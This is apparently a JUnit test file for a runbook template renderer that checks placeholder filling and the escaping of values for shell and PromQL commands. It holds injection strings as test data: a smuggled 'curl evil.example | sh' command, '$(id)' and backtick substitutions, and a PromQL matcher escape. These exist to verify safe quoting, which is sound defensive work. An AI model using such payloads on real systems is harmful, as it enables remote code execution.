package io.onloop.domain.runbook;

import org.junit.jupiter.api.Test;

import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

class TemplatesTest {
    @Test
    void fillsValuesFallbacksAndPlaceholders() {
        var v = Map.of("region", "eu-west-1", "labels.pod", "api-7f9");
        assertThat(Templates.render("{{region}} / {{ labels.pod }} / {{namespace|<namespace>}} / {{node}}", v))
                .isEqualTo("eu-west-1 / api-7f9 / <namespace> / <node>");
        assertThat(Templates.render("no placeholders", v)).isEqualTo("no placeholders");
    }

    @Test
    void aValueIsInsertedOnceAndNeverExpandedAgain() {
        var v = Map.of("title", "{{labels.secret}}", "labels.secret", "s3cr3t");
        assertThat(Templates.render("Alert: {{title}}", v)).isEqualTo("Alert: {{labels.secret}}");
    }

    @Test
    void commandsQuoteValuesTheShellWouldInterpret() {
        var v = Map.of("pod", "api-7f9", "namespace", "prod; curl evil.example | sh", "node", "it's");
        assertThat(Templates.renderCommand("kubectl -n {{namespace}} logs {{pod}}", v))
                .isEqualTo("kubectl -n 'prod; curl evil.example | sh' logs api-7f9");
        assertThat(Templates.renderCommand("x {{node}}", v)).isEqualTo("x 'it'\\''s'");
        assertThat(Templates.render("prose {{namespace}}", v)).isEqualTo("prose prod; curl evil.example | sh");
    }

    @Test
    void aValueBetweenTheCommandsOwnDoubleQuotesIsEscapedForThem() {
        var v = Map.of("namespace", "pay", "pod", "pay-1\"} or vector(1) or {x=\"", "container", "app$(id)`id`\\");
        // a PromQL matcher: the value cannot end the string and add to the query
        assertThat(Templates.renderCommand("increase(restarts{namespace=\"{{namespace}}\", pod=\"{{pod}}\"}[1h])", v))
                .isEqualTo("increase(restarts{namespace=\"pay\", pod=\"pay-1\\\"} or vector(1) or {x=\\\"\"}[1h])");
        // the shell's double quotes: nothing is expanded
        assertThat(Templates.renderCommand("echo \"{{container}}\"", v)).isEqualTo("echo \"app\\$(id)\\`id\\`\\\\\"");
        // anywhere inside them, after an escaped quote and an earlier value too
        assertThat(Templates.renderCommand("grep \"\\\"{{pod}}: {{container}} y\" f", v))
                .isEqualTo("grep \"\\\"pay-1\\\"} or vector(1) or {x=\\\": app\\$(id)\\`id\\`\\\\ y\" f");
        // in single quotes only a ' needs closing and reopening; after them, single quotes again
        assertThat(Templates.renderCommand("grep '{{node}}: x' f {{node}}", Map.of("node", "it's $x")))
                .isEqualTo("grep 'it'\\''s $x: x' f 'it'\\''s $x'");
    }

    @Test
    void listsAndChecksVariables() {
        assertThat(Templates.variables("a {{region}} b {{labels.dimension_X|<x>}} {{bogus}}"))
                .containsExactly("region", "labels.dimension_X", "bogus");
        assertThat(Templates.isKnown("labels.pod")).isTrue();
        assertThat(Templates.isKnown("observed")).isTrue();
        assertThat(Templates.isKnown("labels.")).isFalse();
        assertThat(Templates.isKnown("bogus")).isFalse();
    }
}
